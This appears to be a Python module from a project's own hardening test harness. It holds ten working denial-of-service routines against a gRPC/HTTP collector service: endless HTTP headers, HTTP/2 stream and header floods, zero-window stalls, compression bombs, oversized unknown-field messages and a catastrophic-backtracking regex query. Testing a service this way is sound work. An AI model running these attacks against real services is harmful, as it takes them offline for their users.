"""Attacks that cost who sends them next to nothing: few bytes that take much of
the collector's memory, time or places. As in attacks.py: each goes on until a
time and returns what it has done and how it was answered."""

import os
import socket
import struct
import threading
import time
import urllib.parse

import peer
from attacks import _short, _tally, session, zstd_frame
from peer import Gone, Peer, SESSION, field, message

HEALTH = "/grpc.health.v1.Health/"


def heads(_grpc, http, until, _prepared):
    """48 heads of a megabyte of short lines over HTTP, which do not end."""
    host, port = http.rsplit(":", 1)
    lines, held, answers = b"a:b\r\n" * 200_000, [], {}
    for _ in range(48):
        one = socket.create_connection((host, int(port)), 2)
        one.settimeout(1)
        try:
            one.sendall(b"GET / HTTP/1.1\r\n" + lines)
            _tally(answers, "taken")
        except OSError as error:
            _tally(answers, _short(error))
        held.append(one)
    time.sleep(max(0, until - time.monotonic()))
    return {"heads": len(held), "answers": answers}


def forms(_grpc, http, until, _prepared):
    """Forms of a megabyte of empty fields, eight at a time."""
    body = b"a&" * 500_000
    request = (b"POST /prometheus/api/v1/query HTTP/1.1\r\nHost: %b\r\n"
               b"Content-Type: application/x-www-form-urlencoded\r\n"
               b"Content-Length: %d\r\n\r\n" % (http.encode(), len(body))) + body
    return _at_once(8, until, lambda: peer.http(http, request, 5)[9:12].decode())


def watches(grpc, _http, until, _prepared):
    """30,000 watches of the collector's health, which need no token."""
    held, opened, answers = [], 0, {}
    while time.monotonic() < until and len(held) < 300:
        try:
            one = Peer(grpc)
            held.append(one)
            for n in range(100):
                one.open(2 * n + 1, HEALTH + "Watch")
                one.send(peer.frame(peer.DATA, 0, 2 * n + 1, message(b"")))
                opened += 1
            one.read()
        except (Gone, OSError) as error:
            _tally(answers, _short(error))
            time.sleep(0.01)
    while time.monotonic() < until:
        time.sleep(0.05)
    return {"opened": opened, "answers": answers}


def calls(grpc, _http, until, _prepared):
    """Heads of queries that never come: 95 on each of 300 connections, which
    stay, and 40,000 on one that has not heard how many it may have."""
    held, opened, answers = [], 0, {}
    while time.monotonic() < until and len(held) < 301:
        try:
            one = Peer(grpc)
            one.socket.settimeout(1)
            held.append(one)
            many = 40_000 if len(held) == 1 else 95
            one.send(b"".join(
                peer.frame(peer.HEADERS, peer.END_HEADERS, 2 * n + 1,
                           peer.headers("/gradtap.v1.Query/GetRun"))
                for n in range(many)))
            opened += many
            if len(held) > 1:
                one.read()
            _tally(answers, "taken")
        except (Gone, OSError) as error:
            _tally(answers, _short(error))
            time.sleep(0.01)
    while time.monotonic() < until:
        time.sleep(0.05)
    return {"opened": opened, "answers": answers}


def asked(grpc, _http, until, _prepared):
    """Requests of 319 KiB, 95 on each of 8 connections that stay, of whose
    answers nothing is taken."""
    request = message(field(15, b"\0" * (319 << 10)))
    held, sent, answers = [], 0, {}
    while time.monotonic() < until and len(held) < 8:
        try:
            one = Peer(grpc, greet=False)
            held.append(one)
            one.send(peer.PREFACE + peer.frame(
                peer.SETTINGS, 0, 0, struct.pack(">HI", 4, 0)))
            for n in range(95):
                one.open(2 * n + 1, "/gradtap.v1.Query/ListRuns")
                sent += one.send_data(2 * n + 1, request, until, last=True)
            _tally(answers, "taken")
        except (Gone, OSError) as error:
            _tally(answers, _short(error))
            time.sleep(0.01)
    while time.monotonic() < until:
        time.sleep(0.05)
    return {"MiB sent": sent >> 20, "answers": answers}


def prepare_gaps():
    """Batches of 130,000 gaps in 200 bytes."""
    gaps = 130_000
    list_ = field(1, field(3, field(1, 17) + field(2, 1) + field(3, 1) +
                           field(4, 1))) * gaps
    frame = zstd_frame(list_)
    return [message(peer.batch(1 + i * gaps, gaps, frame)) for i in range(6)]


def gaps(grpc, _http, until, prepared):
    """40 sessions that send them."""
    held, answers = [], {}
    for i in range(40):
        if time.monotonic() >= until:
            break
        try:
            one = session(grpc, f"hostile-gaps-{i}")
            for part in prepared:
                one.send_data(1, part, until)
            held.append(one)
        except (Gone, OSError) as error:
            _tally(answers, _short(error))
    for one in held:
        _tally(answers, one.await_end(1, until) or "open")
    return {"sessions": len(held), "answers": answers}


def prepare_parts():
    """240 parts of 500 KiB of zeros of one record, in 60 frames of 145 bytes."""
    prepared = []
    for first in range(0, 240, 4):
        list_ = b""
        for i in range(first, first + 4):
            data = (b"\x12" if i == 0 else b"\0") + bytes(500 * 1024 - 1)
            list_ += field(1, field(6, field(1, i) + field(2, 60_000) +
                                    field(3, data)))
        prepared.append(message(peer.batch(1 + first, 4, zstd_frame(list_))))
    return prepared


def parts(grpc, _http, until, prepared):
    """Six records that are never finished; their sessions come again and again."""
    nonces, answers, opened = [os.urandom(16) for _ in range(6)], {}, 0
    held = []
    for i, nonce in enumerate(nonces):
        held.append(session(grpc, f"hostile-parts-{i}", nonce=nonce))
        for part in prepared:
            held[i].send_data(1, part, until)
            held[i].read()
    while time.monotonic() < until:
        at = opened % 6
        held[at].close()
        try:
            held[at] = session(grpc, f"hostile-parts-{at}", nonce=nonces[at])
            opened += 1
        except (Gone, OSError) as error:
            _tally(answers, _short(error))
    return {"opened": opened, "answers": answers}


def unread(grpc, _http, until, _prepared):
    """4,000 sessions that grant the collector no byte for its answers."""
    none = peer.frame(peer.SETTINGS, 0, 0, b"\x00\x04\x00\x00\x00\x00")
    held, opened, answers = [], 0, {}
    while time.monotonic() < until and len(held) < 40:
        try:
            one = Peer(grpc, greet=False)
            one.send(peer.PREFACE + none)
            held.append(one)
            for n in range(100):
                stream = 2 * n + 1
                one.open(stream, SESSION)
                one.send(peer.frame(peer.DATA, 0, stream, message(
                    peer.hello("hostile", n, os.urandom(16)))))
                opened += 1
            one.read()
        except (Gone, OSError) as error:
            _tally(answers, _short(error))
            time.sleep(0.01)
    while time.monotonic() < until:
        time.sleep(0.05)
    return {"sessions": opened, "answers": answers}


def prepare_unknown():
    """4 MiB of fields of two bytes that nobody knows: for a session, for a
    watch."""
    many = b"\x7a\x00" * ((2 << 20) - 512)
    return message(many), message(field(1, b"good") + many)


def unknown(grpc, _http, until, prepared):
    """Up to 60 connections that send one to a session and one to a watch, and
    stay."""
    held, answers = [], {}
    while time.monotonic() < until and len(held) < 60:
        try:
            one = session(grpc, "hostile-unknown")
            one.open(3, "/gradtap.v1.Query/Watch")
            for stream, part in zip((1, 3), prepared):
                one.send_data(stream, part, until, last=stream == 3)
                soon = min(until, time.monotonic() + 1)
                _tally(answers, one.await_end(stream, soon) or "open")
            held.append(one)
        except (Gone, OSError) as error:
            _tally(answers, _short(error))
            time.sleep(0.01)
    while time.monotonic() < until:
        time.sleep(0.05)
    return {"messages": 2 * len(held), "answers": answers}


def patterns(_grpc, http, until, _prepared):
    """Patterns that take long to match, two at a time, given up after 1 s."""
    path = "/api/v1/ListParameters?run=good&match=" + urllib.parse.quote(
        "(?:[ab]*a[ab]{900}c|[ab]*b[ab]{950}c)")
    return _at_once(2, until, lambda: peer.get(http, path, 1)[9:12].decode())


def _at_once(many, until, ask):
    answers, lock = {}, threading.Lock()

    def again():
        while time.monotonic() < until:
            try:
                what = ask() or "closed"
            except OSError as error:
                what = _short(error)
            with lock:
                _tally(answers, what)

    threads = [threading.Thread(target=again) for _ in range(many)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return {"requests": sum(answers.values()), "answers": answers}


ATTACKS = {
    "heads": (heads, None),
    "forms": (forms, None),
    "watches": (watches, None),
    "calls": (calls, None),
    "asked": (asked, None),
    "gaps": (gaps, prepare_gaps),
    "parts": (parts, prepare_parts),
    "unread": (unread, None),
    "unknown": (unknown, prepare_unknown),
    "patterns": (patterns, None),
}
